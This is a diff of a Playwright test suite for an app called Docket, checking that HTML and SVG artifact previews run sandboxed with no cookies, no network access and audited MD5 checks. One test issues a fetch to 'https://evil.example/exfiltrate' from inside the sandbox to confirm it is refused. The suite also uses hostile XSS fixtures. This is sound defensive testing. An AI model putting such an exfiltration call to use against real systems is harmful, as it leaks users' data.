@@ -3,9 +3,9 @@ import { createHash } from "node:crypto";
 import { readFile } from "node:fs/promises";
 import { ArtifactVersionView } from "@/lib/schemas/artifacts";
 import { HOSTILE_ARTIFACT_TITLE, HOSTILE_DOCUMENT_FILENAME, HOSTILE_SNIPPETS, SCRIPTED_SVG_ARTIFACT } from "@/lib/simulator/dataset/hostile";
-import { expect, test } from "./support/fixtures";
-import { SMALL_SEED_1_ARTIFACTS as IDS, SMALL_SEED_1_PREVIEW_CORPUS as CORPUS } from "./support/simulator-ids";
-import { database, seedSession, SESSION_COOKIE, simulatorControl, stackInfo } from "./support/stack";
+import { expect, readAuditRows, test } from "./support/fixtures";
+import { SMALL_SEED_1_ARTIFACTS as IDS, SMALL_SEED_1_PREVIEW_CORPUS as CORPUS } from "@/tests/support/simulator-ids";
+import { stackInfo, type SeededSession } from "./support/stack";
 
 const previewPath = (versionId: string) => `/api/artifacts/${versionId}/preview`;
 /** The one page the artifact sandbox origin serves; every preview frame loads it and nothing else. */
@@ -42,12 +42,10 @@ const readParentTitle = () => {
   }
 };
 
-let reviewerSubject: string;
+let reviewer: SeededSession;
 
-test.beforeEach(async ({ context, baseURL }) => {
-  const { token, subject } = await seedSession("reviewer");
-  reviewerSubject = subject;
-  await context.addCookies([{ name: SESSION_COOKIE, value: token, url: baseURL!, httpOnly: true, sameSite: "Lax" }]);
+test.beforeEach(async ({ signedInAs }) => {
+  reviewer = await signedInAs("reviewer");
 });
 
 /**
@@ -62,7 +60,15 @@ function watch(page: Page) {
   page.on("request", (request) => {
     const isFromPreview = request.frame() !== page.mainFrame();
     const isRendererDocument = isFromPreview && request.isNavigationRequest() && request.url() === rendererUrl();
-    started.push({ url: request.url(), isFromPreview, isRendererDocument, cookie: request.allHeaders().then((headers) => headers.cookie, () => undefined) });
+    started.push({
+      url: request.url(),
+      isFromPreview,
+      isRendererDocument,
+      cookie: request.allHeaders().then(
+        (headers) => headers.cookie,
+        () => undefined,
+      ),
+    });
   });
   page.on("requestfailed", (request) => {
     if (["csp", "net::ERR_BLOCKED_BY_CSP"].includes(request.failure()?.errorText ?? "")) blockedByBrowser.add(request.url());
@@ -76,7 +82,8 @@ function watch(page: Page) {
     rendererLoads: () => started.filter((request) => request.isRendererDocument).map((request) => request.url),
     /** The cookies the browser sent with each renderer load: none, since the sandbox is another site. */
     rendererCookies: () => Promise.all(started.filter((request) => request.isRendererDocument).map((request) => request.cookie)),
-    previewSourceReads: () => started.filter((request) => !request.isFromPreview && new URL(request.url).pathname.endsWith("/preview")).map((request) => request.url),
+    previewSourceReads: () =>
+      started.filter((request) => !request.isFromPreview && new URL(request.url).pathname.endsWith("/preview")).map((request) => request.url),
     leaked: () =>
       started
         .filter((request) => !blockedByBrowser.has(request.url))
@@ -87,13 +94,8 @@ function watch(page: Page) {
   };
 }
 
-async function auditRowsOf(action: string, targetId: string) {
-  const rows = await database().query<{ target_type: string; params: Record<string, unknown>; outcome: string }>(
-    "SELECT target_type, params, outcome FROM audit_event WHERE actor_subject = $1 AND action = $2 AND target_id = $3 ORDER BY seq",
-    [reviewerSubject, action, targetId],
-  );
-  return rows.rows;
-}
+/** The reviewer's audited acts of one kind on one object. */
+const auditRowsOf = (action: string, targetId: string) => readAuditRows({ subject: reviewer.subject, action, targetId });
 
 /** Runs the preview and returns its frame once the renderer has written the artifact into itself. */
 async function previewFrame(page: Page): Promise<Frame> {
@@ -103,10 +105,6 @@ async function previewFrame(page: Page): Promise<Frame> {
   const frame = page.frames().find((candidate) => candidate.url() === rendererUrl())!;
   await expect.poll(() => frame.evaluate(() => document.title).catch(() => "")).not.toBe("Artifact preview");
   return frame;
-}
-
-async function setSimulatorFaults(rules: unknown[]) {
-  await simulatorControl("/_simulator/faults", "PUT", { rules });
 }
 
 test("a markdown version shows formatted, its facts and a verified MD5; the read is audited with its outcome", async ({ page }) => {
@@ -121,9 +119,15 @@ test("a markdown version shows formatted, its facts and a verified MD5; the read
   await content.getByRole("button", { name: "Source" }).click();
   await expect(content.getByText("## Risks")).toBeVisible();
 
-  await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([
-    expect.objectContaining({ target_type: "artifact_version", outcome: "success", params: expect.objectContaining({ md5: "verified", cut: false, artifactId: expect.any(String) }) }),
-  ]);
+  await expect
+    .poll(() => auditRowsOf("artifact.view", versionId))
+    .toEqual([
+      expect.objectContaining({
+        targetType: "artifact_version",
+        outcome: "success",
+        params: expect.objectContaining({ md5: "verified", cut: false, artifactId: expect.any(String) }),
+      }),
+    ]);
 });
 
 test("the artifact's versions are listed in order, and any two can be compared line by line", async ({ page }) => {
@@ -134,7 +138,10 @@ test("the artifact's versions are listed in order, and any two can be compared l
   for (const [index, versionId] of IDS.markdown.entries()) {
     await expect(versions.getByRole("link", { name: `Version ${index + 1}` })).toHaveAttribute("href", `/artifacts/${versionId}`);
   }
-  await expect(versions.getByRole("link", { name: "Message in the chat" }).first()).toHaveAttribute("href", new RegExp(`^/chats/${IDS.chat}\\?message=claude_chat_msg_`));
+  await expect(versions.getByRole("link", { name: "Message in the chat" }).first()).toHaveAttribute(
+    "href",
+    new RegExp(`^/chats/${IDS.chat}\\?message=claude_chat_msg_`),
+  );
   // Nothing of another version is read until the reviewer asks for the comparison.
   expect(await auditRowsOf("artifact.view", IDS.markdown[0])).toEqual([]);
 
@@ -192,8 +199,22 @@ test("an HTML preview runs its script inside the sandbox only: no cookie, no net
   expect(await frame.evaluate(() => self.origin)).toBe("null");
   expect(await frame.evaluate(readCookie)).toBe("refused: SecurityError");
   expect(await frame.evaluate(readParentTitle)).toBe("refused: SecurityError");
-  expect(await frame.evaluate(() => fetch("/api/chats").then(() => "fetched", () => "refused"))).toBe("refused");
-  expect(await frame.evaluate(() => fetch("https://evil.example/exfiltrate").then(() => "fetched", () => "refused"))).toBe("refused");
+  expect(
+    await frame.evaluate(() =>
+      fetch("/api/chats").then(
+        () => "fetched",
+        () => "refused",
+      ),
+    ),
+  ).toBe("refused");
+  expect(
+    await frame.evaluate(() =>
+      fetch("https://evil.example/exfiltrate").then(
+        () => "fetched",
+        () => "refused",
+      ),
+    ),
+  ).toBe("refused");
 
   expect(await page.title()).toBe(appTitle);
   expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
@@ -202,10 +223,12 @@ test("an HTML preview runs its script inside the sandbox only: no cookie, no net
   expect(watched.previewSourceReads()).toEqual([`${stackInfo().appUrl}${previewPath(versionId)}`]);
   expect(watched.leaked()).toEqual([]);
   expect(watched.dialogs).toEqual([]);
-  await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([
-    expect.objectContaining({ params: expect.objectContaining({ md5: "verified", cut: false }) }),
-    expect.objectContaining({ params: expect.objectContaining({ md5: "verified", preview: "served" }) }),
-  ]);
+  await expect
+    .poll(() => auditRowsOf("artifact.view", versionId))
+    .toEqual([
+      expect.objectContaining({ params: expect.objectContaining({ md5: "verified", cut: false }) }),
+      expect.objectContaining({ params: expect.objectContaining({ md5: "verified", preview: "served" }) }),
+    ]);
 });
 
 test("a preview cannot navigate itself or the page away: a link or a script in it reaches nothing", async ({ page }) => {
@@ -271,7 +294,9 @@ test("an SVG with a script, under the preview's own headers, runs in an opaque o
   expect(watched.dialogs).toEqual([]);
 });
 
-test("the dataset's scripted SVG artifact is source on the page, and in its opt-in preview its script runs only in an opaque origin and reaches nothing", async ({ page }) => {
+test("the dataset's scripted SVG artifact is source on the page, and in its opt-in preview its script runs only in an opaque origin and reaches nothing", async ({
+  page,
+}) => {
   const watched = watch(page);
   const [versionId] = CORPUS.scriptedSvgArtifact;
   await page.goto(`/artifacts/${versionId}`);
@@ -299,13 +324,17 @@ test("the dataset's scripted SVG artifact is source on the page, and in its opt-
   expect(watched.dialogs).toEqual([]);
 });
 
-test("a code artifact of 30,000 lines and 2.5 MiB stays usable: cut and said to be, shown unhighlighted, and its versions not diffed in part", async ({ page }) => {
+test("a code artifact of 30,000 lines and 2.5 MiB stays usable: cut and said to be, shown unhighlighted, and its versions not diffed in part", async ({
+  page,
+}) => {
   const [older, newer] = CORPUS.largeCodeArtifact;
   await page.goto(`/artifacts/${newer}`);
   await expect(page.getByRole("article", { name: "ledger_export.py" })).toBeVisible();
   const content = page.getByRole("region", { name: "Content" });
   await expect(content).toContainText("Cut for display:");
-  await expect(content.getByRole("note").filter({ hasText: /^Shown without highlighting: it has \d{2},\d{3} lines/ })).toContainText("Docket highlights at most 5,000 lines");
+  await expect(content.getByRole("note").filter({ hasText: /^Shown without highlighting: it has \d{2},\d{3} lines/ })).toContainText(
+    "Docket highlights at most 5,000 lines",
+  );
   await expect(content).toContainText('    {"row": 1, "account": "ACC-000001"');
   // One text node in one <pre>, however long the text: nothing per line or per token.
   expect(await content.locator("pre").count()).toBe(1);
@@ -334,20 +363,31 @@ test("an artifact version downloads whole, even past what the page shows, MD5-ch
   expect(createHash("md5").update(bytes).digest("hex")).toBe(view.integrity.metadataMd5);
 
   const response = await page.request.get(`/api/artifacts/${IDS.svg[0]}/download`);
-  expect(response.headers()).toMatchObject({ "content-type": "application/octet-stream", "x-content-type-options": "nosniff", "content-security-policy": "sandbox; default-src 'none'" });
+  expect(response.headers()).toMatchObject({
+    "content-type": "application/octet-stream",
+    "x-content-type-options": "nosniff",
+    "content-security-policy": "sandbox; default-src 'none'",
+  });
   expect(response.headers()["content-disposition"]).toMatch(/^attachment; filename="Logo concept\.svg"; /);
 
-  await expect.poll(() => auditRowsOf("artifact.download", versionId)).toEqual([
-    expect.objectContaining({ target_type: "artifact_version", outcome: "intent", params: expect.objectContaining({ expectedMd5: view.integrity.metadataMd5 }) }),
-    expect.objectContaining({ target_type: "artifact_version", outcome: "success", params: expect.objectContaining({ md5: "matched", bytes: bytes.length }) }),
-  ]);
+  await expect
+    .poll(() => auditRowsOf("artifact.download", versionId))
+    .toEqual([
+      expect.objectContaining({
+        targetType: "artifact_version",
+        outcome: "intent",
+        params: expect.objectContaining({ expectedMd5: view.integrity.metadataMd5 }),
+      }),
+      expect.objectContaining({ targetType: "artifact_version", outcome: "success", params: expect.objectContaining({ md5: "matched", bytes: bytes.length }) }),
+    ]);
 });
 
 test("opened directly, the renderer has an opaque origin, and ignores a message that does not come from Docket's origin", async ({ page }) => {
   const response = await page.goto(rendererUrl());
   expect(await page.evaluate(() => self.origin)).toBe("null");
   const policy = response!.headers()["content-security-policy"]!;
-  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", `frame-ancestors ${stackInfo().appUrl}`]) expect(policy).toContain(directive);
+  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", `frame-ancestors ${stackInfo().appUrl}`])
+    expect(policy).toContain(directive);
   expect(policy).not.toContain("allow-same-origin");
   expect(response!.headers()["set-cookie"]).toBeUndefined();
   // The test's own listener runs after the renderer's, so once it has the message, the renderer has judged it.
@@ -376,7 +416,8 @@ test("opened directly, the preview source is still sandboxed by its own headers,
     "cache-control": "no-store",
   });
   const policy = response!.headers()["content-security-policy"]!;
-  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", "form-action 'none'", "frame-ancestors 'none'"]) expect(policy).toContain(directive);
+  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", "form-action 'none'", "frame-ancestors 'none'"])
+    expect(policy).toContain(directive);
   expect(policy).not.toContain("allow-same-origin");
 });
 
@@ -388,9 +429,9 @@ test("a markdown or React artifact has no preview to serve", async ({ page }) =>
   }
 });
 
-test("a version whose MD5 does not match is shown with a loud warning, is not previewed, and is audited as a mismatch", async ({ page }) => {
+test("a version whose MD5 does not match is shown with a loud warning, is not previewed, and is audited as a mismatch", async ({ page, simulator }) => {
   const versionId = IDS.html[0];
-  await setSimulatorFaults([{ match: { path: `/v1/compliance/apps/artifacts/${versionId}/content` }, times: 1, fault: { type: "wrong_md5" } }]);
+  await simulator.setFaults([{ match: { path: `/v1/compliance/apps/artifacts/${versionId}/content` }, times: 1, fault: { type: "wrong_md5" } }]);
   try {
     await page.goto(`/artifacts/${versionId}`);
     const alert = page.getByRole("alert", { name: "MD5 check" });
@@ -398,9 +439,11 @@ test("a version whose MD5 does not match is shown with a loud warning, is not pr
     await expect(alert).toContainText("Content-MD5 header");
     await expect(page.getByRole("button", { name: "Run live preview" })).toHaveCount(0);
     await expect(page.getByText("Not available: the content does not match its MD5")).toBeVisible();
-    await expect.poll(() => auditRowsOf("artifact.view", versionId)).toEqual([expect.objectContaining({ params: expect.objectContaining({ md5: "mismatch" }) })]);
+    await expect
+      .poll(() => auditRowsOf("artifact.view", versionId))
+      .toEqual([expect.objectContaining({ params: expect.objectContaining({ md5: "mismatch" }) })]);
   } finally {
-    await setSimulatorFaults([]);
+    await simulator.clearFaults();
   }
 });
 
@@ -417,9 +460,15 @@ test("a project document shows its text as text, its facts and a verified MD5; t
   expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
   expect(watched.dialogs).toEqual([]);
   expect(watched.leaked()).toEqual([]);
-  await expect.poll(() => auditRowsOf("document.view", IDS.hostileDocument)).toEqual([
-    expect.objectContaining({ target_type: "project_document", outcome: "success", params: expect.objectContaining({ md5: "verified", projectId: expect.any(String) }) }),
-  ]);
+  await expect
+    .poll(() => auditRowsOf("document.view", IDS.hostileDocument))
+    .toEqual([
+      expect.objectContaining({
+        targetType: "project_document",
+        outcome: "success",
+        params: expect.objectContaining({ md5: "verified", projectId: expect.any(String) }),
+      }),
+    ]);
 
   await page.goto(`/project-documents/${IDS.projectDocument}`);
   await expect(page.getByRole("article", { name: "glossary – terms.md" })).toBeVisible();
